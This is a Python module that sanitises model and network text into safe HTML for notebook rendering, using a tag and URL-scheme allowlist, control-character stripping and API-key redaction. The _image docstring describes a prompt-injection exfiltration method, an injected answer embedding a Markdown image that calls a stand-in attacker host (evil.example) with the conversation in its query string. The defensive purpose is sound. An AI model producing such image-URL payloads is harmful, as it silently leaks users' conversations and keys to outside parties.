"""Network text → safe HTML: the one place where model output becomes markup.

Everything that came over the network (answers, reasoning, revised prompts, transcripts, error text,
fields of an imported history) is data. A notebook that is *trusted* renders ``text/markdown`` and
``text/html`` outputs with scripts and event handlers enabled, so raw network text must never reach either.

- :func:`markdown_html` renders Markdown (headings, lists, code, tables, math, http/https/mailto links,
  ``data:image`` images; an image at an address becomes a link to it, so rendering fetches nothing) with raw HTML switched *off* in the parser (a ``<script>`` in the text
  shows as text), then cleans the result with ``nh3`` against an allowlist (no ``script``/``style``/``iframe``/
  ``form``/``object``/``svg``, no ``on*`` or ``style`` attributes, no ``javascript:``/``vbscript:``/
  ``data:text/html`` URLs), and redacts it once more (Markdown escapes and character references can spell a key
  that redaction of the source did not see). Renderers emit it as ``text/html``, never as ``text/markdown``.
- :func:`text_html` escapes plain text for element content and quoted attribute values (a key masked).
- :func:`clean_html` is the allowlist pass on its own, for HTML that came from elsewhere.
- :func:`safe_url` says whether a URL may go into ``href``/``src``.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache
from typing import Any

__all__ = ["clean_html", "markdown_html", "safe_url", "text_html"]

#: Tags network Markdown may produce (what markdown-it renders, plus math/details wrappers).
TAGS = frozenset({
    "a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "img", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
})
ATTRIBUTES: dict[str, set[str]] = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "td": {"style"},
    "th": {"style"},
    "code": {"class"},
}
#: Schemes allowed in href/src; ``data:`` is further limited to raster images in ``<img src>``.
URL_SCHEMES = frozenset({"http", "https", "mailto", "data"})
_DATA_IMAGE = re.compile(r"^data:image/(?:png|jpeg|jpg|gif|webp|avif);base64,[A-Za-z0-9+/=\s]*$", re.I)
_CODE_CLASS = re.compile(r"^language-[\w+#.-]{1,40}$")
_SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*):")
#: C0 controls other than tab/newline/CR (they confuse terminals and some parsers), DEL, and the bidi embeddings,
#: overrides and isolates that reorder what is read (an answer's code shown with U+202E reads other than it runs;
#: every text output drops them: ``errors.clean_text``).
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
_TAG = re.compile(r"<[^>]*>")
#: Stands for the key mask (``sk-****``) while Markdown parses: its stars are emphasis, and two masks in one
#: answer ("Your key is sk-****. … sk-****") became bold text around everything between them, the masks gone.
_MASK_HOLD = "\ue000"
_MASK_HOLD_URL = "%EE%80%80"  # (the same in a link's address, which the parser percent-encodes)
_EDGES = "".join(chr(i) for i in range(33))  # C0 controls and space, stripped from URL ends


def safe_url(url: str, *, image: bool = False) -> bool:
    """True if ``url`` may go into a link (``image=False``) or an ``<img src>`` (``image=True``).

    Links: http, https, mailto, or relative. Images: http, https, relative, ``data:image/<raster>;base64``.
    """
    # What a browser does before reading the scheme: drop tab/CR/LF anywhere, controls and spaces at the ends
    text = re.sub(r"[\t\n\r]", "", html.unescape(str(url))).strip(_EDGES)
    m = _SCHEME.match(text)
    if m is None:
        return not _CONTROL.search(text)  # relative (no scheme)
    scheme = m.group(1).lower()
    if scheme in ("http", "https"):
        return True
    if scheme == "mailto":
        return not image
    if scheme == "data":
        return image and bool(_DATA_IMAGE.match(text))
    return False


def _filter(tag: str, attr: str, value: str) -> str | None:
    if attr == "href":
        return value if safe_url(value) else None
    if attr == "src":
        return value if safe_url(value, image=True) else None
    if attr == "class":
        return value if tag == "code" and _CODE_CLASS.match(value) else None
    return value


def clean_html(fragment: str) -> str:
    """Remove everything active from an HTML fragment (allowlist of tags, attributes and URL schemes)."""
    import nh3

    return nh3.clean(
        fragment,
        tags=set(TAGS),
        clean_content_tags={"script", "style", "template", "noscript", "iframe", "object", "embed",
                            "textarea", "title", "xmp", "noembed", "noframes", "math", "svg"},
        attributes=ATTRIBUTES,
        attribute_filter=_filter,
        url_schemes=set(URL_SCHEMES),
        filter_style_properties={"text-align"},
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )


def _math(content: str, options: dict[str, Any]) -> str:
    """Math stays as TeX between delimiters (escaped); the frontend's MathJax typesets it."""
    if options.get("display_mode"):
        return f"<div>$${text_html(content)}$$</div>\n"
    return f"${text_html(content)}$"


@lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False, "linkify": _has_linkify(), "typographer": False})
    md.enable(["table", "strikethrough"])
    if _has_linkify():
        md.enable("linkify")
    try:
        from mdit_py_plugins.dollarmath import dollarmath_plugin
    except ImportError:  # math then renders as plain text
        pass
    else:
        md.use(dollarmath_plugin, allow_space=False, allow_digits=False, renderer=_math)
    # per attribute (link or image) in clean_html
    md.validateLink = lambda url: safe_url(url) or safe_url(url, image=True)  # type: ignore[method-assign]
    md.add_render_rule("image", _image)
    return md


def _image(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """An image the text carries (``data:image``) shows; an image to fetch becomes a link to it. A browser loads
    an ``<img>`` as soon as the output renders, so a prompt-injected answer could send the conversation away in
    the image's address (``![](https://evil.example/?q=…)``) with nobody clicking anything."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if _DATA_IMAGE.match(src.strip()):
        return str(self.image(tokens, idx, options, env))
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    return f'<a href="{html.escape(src, quote=True)}">🖼 {text_html(alt)}</a>'


def _has_linkify() -> bool:
    try:
        import linkify_it  # noqa: F401
    except ImportError:
        return False
    return True


def markdown_html(text: str) -> str:
    """Markdown that came from the network → an HTML fragment that cannot run anything, and holds no key.

    Redaction reads the source, where a key spelled with Markdown escapes (``sk\\-…``) or character references
    (``&#115;k-…``) is no key; rendering turns it into the key itself, so the fragment is checked again. Markup
    may also split one (``tkn_A**BC**D`` shows as the key, in its source no tag-free run is): the text the
    fragment shows is checked too, and if it holds a key it is shown as plain text, the key masked. The mask
    itself (``sk-****``, in an answer already redacted) is kept out of the parser's sight: its stars are emphasis.
    """
    from ._config import MASK, redact  # (here: %load_ext imports this module, not the settings)

    text = redact(_CONTROL.sub("", str(text)).replace(_MASK_HOLD, "")).replace(MASK, _MASK_HOLD)
    out = clean_html(_parser().render(text)).replace(_MASK_HOLD, MASK).replace(_MASK_HOLD_URL, MASK)
    out = redact(out)
    shown = html.unescape(_TAG.sub("", out))  # what a reader sees: markup may split a key (``tkn_A**BC**D``)
    if redact(shown) != shown:  # shown as plain text, the key masked: no markup is worth showing it
        return "<p>" + text_html(shown).replace("\n", "<br>\n") + "</p>"
    return out


def text_html(text: Any) -> str:
    """Plain text → HTML text (safe in element content and in quoted attribute values), holding no key.

    Dropping control characters may join a key a relay split with one (no key for redaction of the source), so
    the text is checked after that.
    """
    from ._config import redact

    plain = _CONTROL.sub("", str(text))
    return html.escape(redact(plain), quote=True)
